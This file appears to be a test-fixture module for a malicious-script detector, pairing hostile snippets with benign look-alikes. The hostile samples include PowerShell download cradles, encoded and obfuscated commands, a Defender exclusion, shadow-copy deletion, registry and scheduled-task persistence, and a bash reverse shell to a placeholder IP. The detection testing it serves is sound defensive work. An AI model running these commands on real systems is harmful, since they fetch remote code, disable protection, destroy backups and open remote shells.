"""Scripts and command lines; none leads anywhere."""

from __future__ import annotations

from tests.samples.rules import LONG, Sample

_RUN = b"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_REMOTE = b"full address:s:host.test\r\n"
_COMPONENT = b"<scriptlet><registration progid=a><script>%s</script></scriptlet>"

SAMPLES = {
    "script_host_dropper": Sample(
        "script",
        b'new ActiveXObject("MSXML2.XMLHTTP"); "ADODB.Stream"; "WScript.Shell"',
        b'new ActiveXObject("MSXML2.DOMDocument")',
    ),
    "script_decodes_and_executes": Sample(
        "script", b"WScript.Echo 1\nExecute(StrReverse(x))", b"WScript.Echo StrReverse(x)"
    ),
    "powershell_download_cradle": Sample(
        "script",
        b"IEX (x.DownloadString('https://a.test'))",
        b"(x.DownloadString('https://a.test')).Length",
    ),
    "powershell_encoded_command": Sample(
        "script", f"powershell -nop -enc {LONG}".encode(), b"powershell -nop -file a.ps1"
    ),
    "command_fetches_with_windows_tools": Sample(
        "script", b"certutil -urlcache -f http://a.test", b"certutil -hashfile a.zip SHA256"
    ),
    "hta_runs_commands": Sample(
        "html",
        b'<hta:application id=a><script>new ActiveXObject("WScript.Shell")</script>',
        b"<hta:application id=a><script>document.title = 1</script>",
    ),
    "internet_shortcut_to_share": Sample(
        "text",
        b"[InternetShortcut]\r\nURL=file://files.test/share/a.lnk\r\n",
        b"[InternetShortcut]\r\nURL=https://example.test/\r\n",
    ),
    "remote_desktop_shares_drives": Sample(
        "text", _REMOTE + b"drivestoredirect:s:*\r\n", _REMOTE + b"redirectprinters:i:1\r\n"
    ),
    "powershell_hidden_window": Sample(
        "script",
        b"powershell -w hidden -nop -ep bypass -c iwr https://a.test",
        b"powershell -nop -ep bypass -file backup.ps1",
    ),
    "powershell_loads_program_from_text": Sample(
        "script",
        b"$b=[Convert]::FromBase64String($t);[Reflection.Assembly]::Load($b)"
        b".EntryPoint.Invoke($null,$null)",
        b"[Reflection.Assembly]::LoadWithPartialName('System.Web')",
    ),
    "powershell_disguised": Sample(
        "script",
        b"iex (" + b"+".join(b"[char]%d" % n for n in range(65, 95)) + b")",
        b"$env:PATH + [char]59",
    ),
    "script_switches_protection_off": Sample(
        "script",
        b"Add-MpPreference -ExclusionPath 'C:\\'",
        b"Get-MpPreference | select ExclusionPath",
    ),
    "script_destroys_backups": Sample(
        "script", b"vssadmin.exe delete shadows /all /quiet", b"vssadmin list shadows"
    ),
    "script_starts_with_windows": Sample(
        "script", b"reg add " + _RUN + b" /v a /d b.exe", b"reg query " + _RUN
    ),
    "script_schedules_itself": Sample(
        "script",
        b'schtasks /create /tn a /sc minute /tr "mshta https://a.test"',
        b"schtasks /query /tn a",
    ),
    "batch_takes_letters_from_variables": Sample(
        "script", b"set a=abc\n" + b"%a:~1,1%" * 30, b"set d=%date:~0,2%\necho %d%"
    ),
    "script_encoded_by_microsoft": Sample(
        "script", b"#@~^AAAAAA==x^#~@", b"#@~^ is the mark of encoded scripts"
    ),
    "script_host_starts_powershell": Sample(
        "script",
        b'CreateObject("WScript.Shell").Run "powershell -c dir", 0, False',
        b'CreateObject("WScript.Shell").Run "notepad", 1, False',
    ),
    "scriptlet_runs_commands": Sample(
        "xml",
        _COMPONENT % b'new ActiveXObject("WScript.Shell")',
        _COMPONENT % b"function add(a, b) { return a + b }",
    ),
    "python_runs_decoded_code": Sample(
        "script",
        b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        b"import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
    ),
    "shell_opens_way_back": Sample(
        "script", b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", b"bash -i\nls /dev/tcp"
    ),
}
